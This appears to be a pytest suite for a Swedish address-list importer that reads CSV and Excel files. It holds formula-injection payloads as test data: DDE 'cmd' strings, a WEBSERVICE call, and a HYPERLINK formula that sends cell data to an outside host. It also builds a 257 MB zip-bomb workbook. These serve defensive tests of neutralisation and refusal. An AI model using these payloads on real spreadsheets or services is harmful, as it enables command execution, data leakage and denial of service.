"""Lists given back as they came, with columns added: text of every kind that Excel writes, and workbooks."""

from __future__ import annotations

import codecs
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from openpyxl.styles import Font

from geodata.errors import Fault
from geodata.lists.list_cells import harmless
from geodata.lists.list_columns import guess
from geodata.lists.list_files import MOST_BYTES, open_list
from geodata.lists.list_formulas import reaches_out
from geodata.lists.list_sheet import read_sheet
from geodata.lists.list_text import TextList
from geodata.lists.list_workbook import WorkbookList

ROWS = [["Nr", "Adress", "Ort"], ["0001", "Åsgatan 2 B", "Malmö"], ["0002", "Ö väg 3", "Växjö"]]
MARKS = {"utf-8-sig": b"", "utf-16": codecs.BOM_UTF16_LE}


def quiet(_):
    """Nobody wants to know how far it has come."""


def through(data: bytes, *, header=1, name="lista.csv") -> bytes:
    """A list with two columns added: A says which row it is, B has a separator in it."""
    opened = open_list(io.BytesIO(data), name)
    opened.scan([1], header=header, tick=quiet)
    out = io.BytesIO()
    opened.write(out, ["A", "B"], lambda row: [f"rad {row}", "x;y,z\tå"], quiet)
    return out.getvalue()


@pytest.mark.parametrize("separator", [";", "\t", ",", "|"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "cp850", "mac_roman"])
def test_text_of_every_kind_that_excel_writes_comes_back_in_its_own_kind(codec, separator):
    """Every byte of the list stands in the answer, in its order: only cells are added at the line ends."""
    text = "\r\n".join(separator.join(row) for row in ROWS) + "\r\n"
    data = text.encode(codec)
    opened = TextList(data, "lista.csv")
    assert (opened.separator, opened.encoding.removesuffix("-sig")) == (separator, codec.removesuffix("-sig"))
    scanned = opened.scan([1, 0], header=1, tick=quiet)
    assert scanned.columns == [["Åsgatan 2 B", "Ö väg 3"], ["0001", "0002"]]
    assert scanned.numbers == [2, 3]
    answer = through(data).decode(codec)
    quoted = f'"x{";"}y,z\tå"' if separator != "|" else "x;y,z\tå"
    lines = answer.split("\r\n")
    assert lines[0] == separator.join([*ROWS[0], "A", "B"])
    assert lines[1] == separator.join([*ROWS[1], "rad 0", quoted])
    assert lines[3] == ""


@pytest.mark.parametrize(
    ("text", "codec"),
    [
        ("Skrivet ”drottningatan 45”, läst som Drottninggatan 45.", "cp1252"), ("Written “x 4”, read as X 4.", "cp1252"),
        ("Sjö;Å;ö väg", "cp850"), ("Läst", "cp850"), ("Väg", "mac_roman"), ("Han sade: ”Nej.”", "cp1252"),
    ],
)  # fmt: skip
def test_quotes_around_words_are_no_letters_of_another_encoding(text, codec):
    """In MS-DOS's the closing quote of Windows is an ö, and the low one an ä."""
    assert TextList(f"Nr;Adress\n1;{text}\n".encode(codec), "x").encoding == codec


def test_a_list_keeps_its_quotes_line_breaks_zeros_and_empty_lines():
    """Rows 2 and 5 hold text; row 3 is blank, row 4 holds separators only; the last line has no end."""
    data = b'Nr;"Adress";Ort\n"007";"Storg. 1\nport B";"Lin""k"\n\n;;\n 1;x;\n08;y'
    lines = through(data).decode()
    assert lines == (
        'Nr;"Adress";Ort;A;B\n"007";"Storg. 1\nport B";"Lin""k";rad 0;"x;y,z\tå"\n\n;;\n 1;x;;rad 1;"x;y,z\tå"\n'
        '08;y;;rad 2;"x;y,z\tå"'
    )


def test_short_and_long_rows_get_their_new_cells_in_the_same_columns():
    """The longest row has four cells, so every new cell stands in the fifth column."""
    lines = through(b"a;b;c\n1;2\n1;2;3;4\n").decode().splitlines()
    assert [line.split(";")[4] for line in lines] == ["A", "rad 0", "rad 1"]


def test_excels_own_first_line_tells_the_separator_and_stays():
    assert through(b"sep=|\nNr|Adress\n1|b").decode().splitlines()[0] == "sep=|"
    assert TextList(b"sep=|\nNr|Adress\n1|b", "x").separator == "|"


def test_one_column_of_addresses_with_commas_is_one_column():
    opened = TextList("Adress\nStorgatan 1, 582 27 Linköping\nÅgatan 2, 582 22 Linköping\n".encode(), "x.csv")
    assert opened.head(2)[1] == (2, ["Storgatan 1, 582 27 Linköping"])


@pytest.mark.parametrize(
    "text", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x", "\t1", "  =1", "＝1"]
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-12,5", "+46 13-20 60 00", "-", "a=b", "Storgatan 1", "2-3", "−5", "(+46) 1"]
)
def test_what_no_spreadsheet_runs_stays_as_it_is(text):
    assert harmless(text) == text


def test_formulas_of_the_list_itself_are_neutralised_and_counted():
    data = b"Nr;Adress\n1;=cmd|' /C calc'!A0\n2;\"@x\"\n"
    opened = TextList(data, "x.csv")
    opened.scan([1], header=1, tick=quiet)
    out = io.BytesIO()
    assert opened.write(out, ["A"], lambda _: ["=b"], quiet) == 2
    assert out.getvalue() == b"Nr;Adress;A\n1;'=cmd|' /C calc'!A0;'=b\n2;'@x;'=b\n"


def test_a_letter_that_the_encoding_lacks_is_written_as_its_nearest():
    opened = TextList("Nr;Ö\n1;2\n".encode("cp1252"), "x.csv")
    opened.scan([0], header=1, tick=quiet)
    out = io.BytesIO()
    opened.write(out, ["A"], lambda _: ["−3 ł ∑"], quiet)
    assert out.getvalue().decode("cp1252").splitlines()[1] == "1;2;-3 ? ?"


@pytest.mark.parametrize(
    "beginning", ["<html><body><table>", "\ufeff  <?xml version='1.0'?>", "<TABLE border=1>"]
)
def test_a_page_that_is_called_a_workbook_is_refused_with_what_to_do(beginning):
    """Some systems export one; read as text, every line of it would be an address that is not found."""
    with pytest.raises(Fault) as refused:
        open_list(io.BytesIO(f"{beginning}<tr><td>Adress</td></tr>".encode()), "lista.xls")
    assert refused.value.code == "list_not_text"


def test_a_quote_that_never_ends_is_refused_with_its_row():
    with pytest.raises(Fault) as refused:
        open_list(io.BytesIO(b'a;b\n1;2\n3;"x\n4;5\n'), "x.csv")
    assert (refused.value.code, refused.value.facts["row"]) == ("list_open_quote", 3)


def workbook() -> bytes:
    """Nr (text with zeros), address, date, a number shown with zeros, a formula; row 4 is empty."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Lista"
    sheet.append(["Nr", "Adress", "Datum", "Kod", "Summa"])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.append(["007", "Storgatan 1", date(2026, 5, 1), 7, "=cmd|' /C calc'!A0"])
    sheet.append(["008", "Åg & <b>", date(2026, 5, 2), 8, None])
    sheet["A5"] = "009"
    sheet["D2"].number_format = "000"
    book.create_sheet("Annat")["A1"] = "=1+1"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_a_workbook_keeps_formats_dates_zeros_and_other_sheets():
    answer = openpyxl.load_workbook(io.BytesIO(through(workbook(), name="lista.xlsx")))
    sheet = answer["Lista"]
    assert [cell.value for cell in sheet[1]] == ["Nr", "Adress", "Datum", "Kod", "Summa", "A", "B"]
    assert [cell.value for cell in sheet[3]] == [
        "008",
        "Åg & <b>",
        datetime(2026, 5, 2, tzinfo=UTC).replace(tzinfo=None),
        8,
        None,
        "rad 1",
        "x;y,z\tå",
    ]
    assert (sheet["D2"].value, sheet["D2"].number_format, sheet["C2"].is_date) == (7, "000", True)
    assert sheet["F1"].font.bold
    assert sheet.dimensions == "A1:G5"
    assert answer["Annat"]["A1"].value == "=1+1"
    assert [cell.value for cell in sheet[4]] == [None] * 7
    assert sheet["F5"].value == "rad 2"


@pytest.mark.parametrize(("epoch", "days"), [(None, 46143), ("1904", 44681)])
def test_the_beginning_shows_days_and_times_as_the_sheet_does(epoch, days):
    """1 May 2026 is day 46143 counted from 1900, and 44681 from 1904; what is read of an address stays a number."""
    book = openpyxl.Workbook()
    if epoch:
        book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    sheet = book.active
    sheet.append(["Adress", "Dag", "Stund", "Tid", "Kod", "Bara tal"])
    sheet.append(["Storgatan 1", *[date(2026, 5, 1)] * 2, 0.25, days, days])
    for at, form in (
        ("C2", 'd" mån "yyyy hh:mm'),
        ("D2", "hh:mm"),
        ("E2", '[Red]"dag "0.0'),
        ("F2", "General"),
    ):
        sheet[at].number_format = form
    sheet["C2"] = days + 0.5
    stream = io.BytesIO()
    book.save(stream)
    listed = open_list(stream, "lista.xlsx")
    assert listed.head(2)[1][1] == [
        "Storgatan 1", "2026-05-01", "2026-05-01 12:00", "06:00", str(days), str(days),
    ]  # fmt: skip
    assert listed.scan([1], header=1, tick=lambda _: None).columns == [[str(days)]]


def test_formulas_of_other_sheets_that_reach_out_are_neutralised_and_the_rest_stays():
    """Also in a sheet that does not show, and in cells that share one formula."""
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["Annat"]["B1"] = "=cmd|'/c calc'!A1"
    book["Annat"]["C1"] = '=HYPERLINK("http://x.se/"&A1,"Se här")'
    hidden = book.create_sheet("Dolt")
    hidden.sheet_state = "hidden"
    hidden["A1"], hidden["A2"] = '=WEBSERVICE("http://x.se")', "=SUM(Lista!D2:D3)"
    stream = io.BytesIO()
    book.save(stream)
    opened = open_list(stream, "lista.xlsx")
    opened.scan([1], header=1, tick=quiet)
    out = io.BytesIO()
    assert opened.write(out, ["A"], lambda _: ["b"], quiet) == 4
    answer = openpyxl.load_workbook(out)
    assert [cell.value for cell in answer["Annat"][1]] == [
        "=1+1", "'=cmd|'/c calc'!A1", "'=HYPERLINK(\"http://x.se/\"&A1,\"Se här\")",
    ]  # fmt: skip
    assert [cell.data_type for cell in answer["Annat"][1]] == ["f", "s", "s"]
    assert [row[0].value for row in answer["Dolt"]] == ['\'=WEBSERVICE("http://x.se")', "=SUM(Lista!D2:D3)"]


def test_cells_that_share_a_formula_lose_it_together():
    part = (
        b'<worksheet xmlns="x"><sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">cmd|1!A1</f><v>5</v></c>'
        b'</row><row r="2"><c r="A2"><f t="shared" si="0"/><v>6</v></c><c r="B2"><f>A1</f><v>7</v></c></row>'
        b"</sheetData></worksheet>"
    )
    found = read_sheet(io.BytesIO(part), [], wanted={}, drops=reaches_out)
    assert found.formulas == 2
    assert b"".join(part[a:b] for a, b, _ in found.edits).count(b"<f") == 2


def test_a_formula_without_a_value_becomes_harmless_text():
    answer = openpyxl.load_workbook(io.BytesIO(through(workbook(), name="lista.xlsx")))
    cell = answer["Lista"]["E2"]
    assert (cell.data_type, cell.value) == ("s", "'=cmd|' /C calc'!A0")


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def packed(sheet: str, strings: str = "", *, types: str = "sheet.main+xml", **more: str) -> bytes:
    """A workbook of hand-written parts, as other programs than Excel write them."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    related = f'<Relationship Id="r1" Type="{rel}/worksheet" Target="/xl/s.xml"/>'
    if strings:
        related += f'<Relationship Id="r2" Type="{rel}/sharedStrings" Target="t.xml"/>'
    parts = {
        "[Content_Types].xml": f'<Types><Override PartName="/xl/calcChain.xml" ContentType="x"/>{types}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="a" Type="{rel}/officeDocument" Target="xl/w.xml"/></Relationships>',
        "xl/w.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{rel}"><sheets><sheet name="B" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/w.xml.rels": f'<Relationships xmlns="{package}">{related}</Relationships>',
        "xl/s.xml": sheet,
        **({"xl/t.xml": strings} if strings else {}),
        **more,
    }  # fmt: skip
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return stream.getvalue()


def test_prefixes_missing_references_shared_strings_and_kept_values_are_read():
    """Cells without a reference follow one another; a formula's last value stays, the formula goes."""
    sheet = (
        f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row><x:c t="s"><x:v>0</x:v></x:c><x:c t="inlineStr"><x:is>'
        '<x:t>Adress</x:t></x:is></x:c></x:row><x:row spans="1:2"><x:c><x:v>1E1</x:v></x:c>'
        '<x:c t="str" s="3"><x:f>A1&amp;"x"</x:f><x:v>Åg 1</x:v></x:c></x:row></x:sheetData></x:worksheet>'
    )
    strings = f'<sst xmlns="{MAIN}"><si><r><t>N</t></r><r><t>r</t></r><rPh><t>fel</t></rPh></si></sst>'
    data = packed(sheet, strings, **{"xl/calcChain.xml": "<c/>"})
    opened = WorkbookList(io.BytesIO(data), "x.xlsx")
    assert opened.head(9) == [(1, ["Nr", "Adress"]), (2, ["10", "Åg 1"])]
    assert opened.scan([1], header=1, tick=quiet).columns == [["Åg 1"]]
    out = io.BytesIO()
    assert opened.write(out, ["A"], lambda _: ["å"], quiet) == 1
    with zipfile.ZipFile(out) as answer:
        written = answer.read("xl/s.xml").decode()
        assert "xl/calcChain.xml" not in answer.namelist()
        assert b"calcChain" not in answer.read("[Content_Types].xml")
    assert '<x:c t="str" s="3"><x:v>Åg 1</x:v></x:c><x:c r="C2"' in written
    assert "<x:row>" in written.split("Adress")[1]


def bomb() -> bytes:
    return packed(f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>', **{"xl/big.xml": "0" * (257 << 20)})


def test_a_workbook_of_257_mb_in_a_small_file_is_refused():
    with pytest.raises(Fault) as refused:
        open_list(io.BytesIO(bomb()), "x.xlsx")
    assert refused.value.code == "list_too_large"


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"\xd0\xcf\x11\xe0 old", "x.xls", "list_locked_or_old"),
        (packed("<worksheet/>", types="macroEnabled"), "x.xlsm", "list_has_macros"),
        (packed("<!DOCTYPE a [<!ENTITY b 'c'>]><worksheet/>"), "x.xlsx", "list_not_workbook"),
        (packed(f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>'), "x.xlsx", "list_empty"),
        (packed("<worksheet"), "x.xlsx", "list_not_workbook"),
        (workbook()[:3000], "x.xlsx", "list_not_workbook"),
        (b"", "x.csv", "list_empty"),
        (b"\n\n;;\n", "x.csv", "list_empty"),
        (bytes(range(256)) * 20, "x.csv", "list_not_text"),
        (b"%PDF-1.4\0\0\0", "x.csv", "list_not_text"),
    ],
)
def test_what_is_no_list_is_refused_with_a_reason(data, name, code):
    with pytest.raises(Fault) as refused:
        open_list(io.BytesIO(data), name)
    assert refused.value.code == code


def test_a_file_too_large_is_refused_unread():
    class Endless(io.BytesIO):
        def tell(self):
            return MOST_BYTES + 1

        def read(self, *_):
            raise AssertionError

    with pytest.raises(Fault) as refused:
        open_list(Endless(), "x.csv")
    assert refused.value.code == "list_too_large"


def test_a_named_sheet_is_taken_and_an_unknown_one_refused_with_the_names():
    assert open_list(io.BytesIO(workbook()), "x.xlsx", sheet="Lista").sheet == "Lista"
    with pytest.raises(Fault) as refused:
        open_list(io.BytesIO(workbook()), "x.xlsx", sheet="Blad7")
    assert refused.value.facts["sheets"] == ["Lista", "Annat"]


def test_a_page_to_read_before_the_list_is_passed_by():
    """The list's title stands above its headings; where no sheet looks like a list, the first with text is it."""
    book = openpyxl.Workbook()
    book.active.title, book.active["A1"] = "Läs mig", "Listan är gjord 2026"
    for title, rows in (
        ("Personer", [["Hembesök"], [], ["Pnr", "Gatuadress"], ["19121212-1212", "Storgatan 1"]]),
        ("Fler", [["Adress"], ["Ågatan 2"]]),
    ):
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    opened = open_list(stream, "x.xlsx")
    assert opened.sheet == "Personer"
    found = guess(opened.head(100))
    assert (found.header, found.roles) == (3, {"address": 1})
    del book["Personer"], book["Fler"]
    book.save(other := io.BytesIO())
    assert open_list(other, "x.xlsx").sheet == "Läs mig"
